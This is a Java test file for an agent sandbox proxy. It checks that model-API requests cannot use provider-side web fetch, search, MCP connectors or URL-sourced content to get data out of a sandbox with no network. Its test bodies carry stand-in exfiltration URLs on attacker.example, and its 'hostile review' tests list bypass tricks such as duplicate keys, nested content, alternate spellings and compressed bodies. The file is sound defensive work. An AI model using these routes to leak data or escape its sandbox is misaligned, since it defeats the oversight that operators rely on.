package dev.agentsandbox.proxy;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A model API that fetches a URL, searches the web or connects to an MCP server for the agent is a
 * way out of a sandbox without a network. Through the proxy's socket, on the plain Anthropic, OpenAI
 * and Gemini upstreams (the clouds share the code): such tools never reach the upstream, the agent's
 * own tools do, and content the provider would fetch is refused before anything is sent.
 */
class ServerSideTest {
    @TempDir
    Path tmp;
    final ModelProxyTest proxy = new ModelProxyTest();

    @BeforeEach
    void start() throws Exception {
        proxy.tmp = tmp;
        proxy.start();
        proxy.proxy(null, null, null);
    }

    @AfterEach
    void stop() {
        proxy.stop();
    }

    private String lastBody() {
        return proxy.upstream.received.get(proxy.upstream.received.size() - 1).body();
    }

    @Test
    void anthropicsServerToolsAndTheMcpConnectorNeverReachTheUpstream() throws Exception {
        String body = "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],"
                + "\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://attacker.example/mcp\",\"name\":\"x\"}],\"container\":\"c_1\","
                + "\"tools\":[{\"name\":\"Write\",\"input_schema\":{\"type\":\"object\"}},{\"type\":\"custom\",\"name\":\"Edit\",\"input_schema\":{}},"
                + "{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"},{\"type\":\"web_search_20250305\",\"name\":\"web_search\"},"
                + "{\"type\":\"code_execution_20250825\",\"name\":\"code_execution\"},{\"type\":\"Web_Fetch_20250910\",\"name\":\"f2\"},"
                + "{\"type\":\"bash_20250124\",\"name\":\"bash\"},{\"type\":\"text_editor_20250728\",\"name\":\"str_replace_based_edit_tool\"}]}";
        assertThat(proxy.call("POST", "/anthropic/v1/messages", body)).startsWith("HTTP/1.1 200");
        assertThat(lastBody()).doesNotContain("attacker.example").doesNotContain("mcp_servers").doesNotContain("container")
                .doesNotContain("web_fetch").doesNotContain("web_search").doesNotContain("code_execution").doesNotContain("f2")
                .contains("\"Write\"").contains("\"Edit\"").contains("bash_20250124").contains("text_editor_20250728");
        // an image or a document by URL would be fetched by Anthropic: refused, nothing sent
        int before = proxy.upstream.received.size();
        for (String content : new String[] {
            "[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":\"https://attacker.example/i.png?d=SECRET\"}}]",
            "[{\"type\":\"tool_result\",\"tool_use_id\":\"t\",\"content\":[{\"type\":\"document\",\"source\":{\"type\":\"url\",\"url\":\"https://a.example/d\"}}]}]",
        }) {
            assertThat(proxy.call("POST", "/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":" + content + "}]}"))
                    .as(content).startsWith("HTTP/1.1 403").contains("server-side");
        }
        assertThat(proxy.upstream.received).hasSize(before);
        // inline content passes
        assertThat(proxy.call("POST", "/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":"
                + "[{\"type\":\"image\",\"source\":{\"type\":\"base64\",\"media_type\":\"image/png\",\"data\":\"AA==\"}}]}]}")).startsWith("HTTP/1.1 200");
    }

    @Test
    void openAisHostedToolsNeverReachTheUpstreamAndItsUrlsAreRefused() throws Exception {
        String body = "{\"model\":\"gpt-x\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}],\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"f\"}},"
                + "{\"type\":\"mcp\",\"server_url\":\"https://attacker.example/mcp\"},{\"type\":\"web_search_preview\"},{\"type\":\"Function\",\"name\":\"g\"}]}";
        assertThat(proxy.call("POST", "/openai/v1/chat/completions", body)).startsWith("HTTP/1.1 200");
        assertThat(lastBody()).doesNotContain("attacker.example").doesNotContain("web_search").doesNotContain("\"g\"").contains("\"f\"");
        assertThat(proxy.call("POST", "/openai/v1/chat/completions", "{\"model\":\"gpt-x\",\"messages\":[{\"role\":\"user\",\"content\":"
                + "[{\"type\":\"image_url\",\"image_url\":{\"url\":\"https://attacker.example/x.png\"}}]}]}")).startsWith("HTTP/1.1 403")
                .contains("server-side");
    }

    @Test
    void geminisServerToolsAndStoredContentAreRefusedInEitherSpelling() throws Exception {
        String path = "/gemini/v1beta/models/gemini-2.5-pro:generateContent";
        for (String body : new String[] {
            "{\"contents\":[],\"tools\":[{\"googleSearch\":{}}]}",
            "{\"contents\":[],\"tools\":[{\"url_context\":{}}]}",
            "{\"contents\":[],\"tools\":[{\"functionDeclarations\":[]},{\"code_execution\":{}}]}",
            "{\"contents\":[{\"parts\":[{\"file_data\":{\"file_uri\":\"https://attacker.example/x\"}}]}]}",
            "{\"contents\":[],\"cached_content\":\"cachedContents/1\"}",
        }) {
            assertThat(proxy.call("POST", path, body)).as(body).startsWith("HTTP/1.1 403").contains("server-side");
        }
        assertThat(proxy.upstream.received).isEmpty();
        assertThat(proxy.call("POST", path, "{\"contents\":[],\"tools\":[{\"function_declarations\":[{\"name\":\"write_file\"}]}]}"))
                .startsWith("HTTP/1.1 200");
    }

    /** What a hostile review found: paths past the last segment, nesting, other spellings, a key twice, a body on a path of no known API. */
    @Test
    void theWaysAroundItAreClosed() throws Exception {
        String mcp = "\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://attacker.example/mcp\",\"name\":\"x\"}]";
        // count_tokens takes the same body as messages
        proxy.call("POST", "/anthropic/v1/messages/count_tokens", "{\"model\":\"claude-x\"," + mcp + ",\"messages\":[]}");
        assertThat(proxy.upstream.received).last().satisfies(r -> assertThat(r.path()).endsWith("/count_tokens"));
        assertThat(lastBody()).doesNotContain("attacker.example");
        int before = proxy.upstream.received.size();
        for (String[] call : new String[][] {
            // an image by URL inside a document's content
            {"/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"document\",\"source\":"
                    + "{\"type\":\"content\",\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":\"https://attacker.example/?d=S\"}}]}}]}]}"},
            // a key twice: the upstream might read the first
            {"/anthropic/v1/messages", "{\"model\":\"claude-x\",\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"f\"}],\"tools\":[],\"messages\":[]}"},
            {"/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[]} {\"trailing\":1}"},
            // Gemini: tools as an object, and content nested in countTokens' request
            {"/gemini/v1beta/models/gemini-2.5-pro:generateContent", "{\"contents\":[],\"tools\":{\"urlContext\":{}}}"},
            {"/gemini/v1beta/models/gemini-2.5-pro:countTokens", "{\"generateContentRequest\":{\"contents\":[{\"parts\":[{\"fileData\":"
                    + "{\"fileUri\":\"https://attacker.example/?d=S\"}}]}]}}"},
            {"/gemini/v1beta/models/gemini-2.5-pro:countTokens", "{\"generateContentRequest\":{\"contents\":[],\"tools\":[{\"googleSearch\":{}}]}}"},
            // OpenAI: a model that always searches
            {"/openai/v1/chat/completions", "{\"model\":\"gpt-4o-search-preview\",\"messages\":[]}"},
            {"/openai/v1/chat/completions", "{\"model\":\"perplexity/sonar-pro\",\"messages\":[]}"},
        }) {
            assertThat(proxy.call("POST", call[0], call[1])).as(call[1]).startsWith("HTTP/1.1 4").containsPattern("server-side|path");
        }
        assertThat(proxy.upstream.received).hasSize(before);
        // search options and gateway plugins are taken out; a function schema may name anything
        assertThat(proxy.call("POST", "/openai/v1/chat/completions", "{\"model\":\"gpt-x\",\"web_search_options\":{},\"plugins\":[{\"id\":\"web\"}],"
                + "\"messages\":[],\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"f\",\"parameters\":{\"properties\":{\"image_url\":{},"
                + "\"file_id\":{}}}}}]}")).startsWith("HTTP/1.1 200");
        assertThat(lastBody()).doesNotContain("web_search_options").doesNotContain("plugins").contains("\"file_id\"");
    }

    @Test
    void theApiIsToldByThePathAndBedrocksSystemToolsAreTakenOut() throws Exception {
        var plain = new dev.agentsandbox.config.ProxyConfig.Upstream("x", "http://127.0.0.1:1", List.of(), List.of(), null, null);
        assertThat(ServerSide.Api.of(Target.parse("/vertex/v1/projects/p/locations/r/publishers/anthropic/models/c:rawPredict"), plain))
                .isEqualTo(ServerSide.Api.ANTHROPIC);
        assertThat(ServerSide.Api.of(Target.parse("/x/v1/responses/compact"), plain)).isEqualTo(ServerSide.Api.OPENAI);
        assertThat(ServerSide.Api.of(Target.parse("/x/v1/messages/count_tokens"), plain)).isEqualTo(ServerSide.Api.ANTHROPIC);
        assertThat(ServerSide.Api.of(Target.parse("/x/v1beta/models/g:streamGenerateContent"), plain)).isEqualTo(ServerSide.Api.GEMINI);
        assertThat(new String(ServerSide.withoutServerTools(ServerSide.Api.CONVERSE, ("{\"messages\":[],\"toolConfig\":{\"tools\":[{\"systemTool\":"
                + "{\"name\":\"nova_grounding\"}},{\"toolSpec\":{\"name\":\"write\"}}]}}").getBytes(java.nio.charset.StandardCharsets.UTF_8)),
                java.nio.charset.StandardCharsets.UTF_8)).doesNotContain("nova_grounding").contains("\"write\"");
        // a body on a path of no known API is refused when any API would find something in it
        assertThat(refusal(ServerSide.Api.OTHER, "{\"mcp_servers\":[{\"url\":\"https://a.example\"}]}", true)).isNotNull();
        assertThat(refusal(ServerSide.Api.OTHER, "{\"input\":\"text to embed\"}", true)).isNull();
        // unless the upstream's path-prefixes name it, and whatever it holds when it is not JSON
        assertThat(refusal(ServerSide.Api.OTHER, "{\"input\":\"text to embed\"}", false)).isNotNull();
        assertThat(refusal(ServerSide.Api.OTHER, "{\"n\":1,\"n\":1}", true)).isNotNull();
        assertThat(refusal(ServerSide.Api.OTHER, "not json", true)).isNotNull();
        // Bedrock's other models on invoke: an S3 object
        assertThat(refusal(ServerSide.Api.ANTHROPIC, "{\"messages\":[{\"content\":[{\"video\":{\"source\":{\"s3Location\":{\"uri\":\"s3://b/k\"}}}}]}]}",
                true)).isNotNull();
        assertThat(ServerSide.Api.of(Target.parse("/vertex/v1/projects/p/locations/r/publishers/google/models/g:rawPredict"), plain))
                .isEqualTo(ServerSide.Api.GEMINI);
    }

    private static EgressPolicy.Refusal refusal(ServerSide.Api api, String body, boolean named) {
        return ServerSide.refusal(api, body.getBytes(java.nio.charset.StandardCharsets.UTF_8), null, named);
    }

    /** A second hostile pass: links under other names, smuggled tool fields, searching models anywhere, compressed bodies. */
    @Test
    void linksUnderOtherNamesSmuggledFieldsAndCompressedBodiesAreStopped() throws Exception {
        int before = proxy.upstream.received.size();
        for (String[] call : new String[][] {
            {"/openai/v1/chat/completions", "{\"model\":\"gpt-x\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"file\",\"file\":"
                    + "{\"filename\":\"a.pdf\",\"file_data\":\"https://attacker.example/?d=S\"}}]}]}"},
            {"/openai/v1/chat/completions", "{\"model\":\"gpt-x\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"document_url\","
                    + "\"document_url\":\"https://attacker.example/d\"}]}]}"},
            {"/openai/v1/chat/completions", "{\"model\":\"gpt-x\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"video_url\","
                    + "\"video_url\":{\"url\":\"HTTPS://attacker.example/v\"}}]}]}"},
            {"/anthropic/v1/messages", "{\"model\":\"perplexity/sonar-pro\",\"messages\":[]}"},
            {"/anthropic/v1/messages", "{\"model\":\"openai/gpt-4o:online\",\"messages\":[]}"},
        }) {
            assertThat(proxy.call("POST", call[0], call[1])).as(call[1]).startsWith("HTTP/1.1 403").contains("server-side");
        }
        assertThat(proxy.call("POST", "/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[]}", "Content-Encoding: gzip"))
                .startsWith("HTTP/1.1 415");
        assertThat(proxy.upstream.received).hasSize(before);
        // a function tool keeps only a function tool's fields
        assertThat(proxy.call("POST", "/openai/v1/chat/completions", "{\"model\":\"gpt-x\",\"messages\":[],\"tools\":[{\"type\":\"function\","
                + "\"urlContext\":{},\"function\":{\"name\":\"f\"}}]}")).startsWith("HTTP/1.1 200");
        assertThat(lastBody()).doesNotContain("urlContext").contains("\"f\"");
        // the agent's own words and tool calls may hold links: a URL in text, a tool's argument named image_url
        assertThat(proxy.call("POST", "/anthropic/v1/messages", "{\"model\":\"claude-x\",\"messages\":[{\"role\":\"user\",\"content\":"
                + "\"https://example.com/readme is the doc\"},{\"role\":\"assistant\",\"content\":[{\"type\":\"tool_use\",\"id\":\"t\","
                + "\"name\":\"Fetch\",\"input\":{\"image_url\":\"https://example.com/x.png\"}}]}]}")).startsWith("HTTP/1.1 200");
    }
}
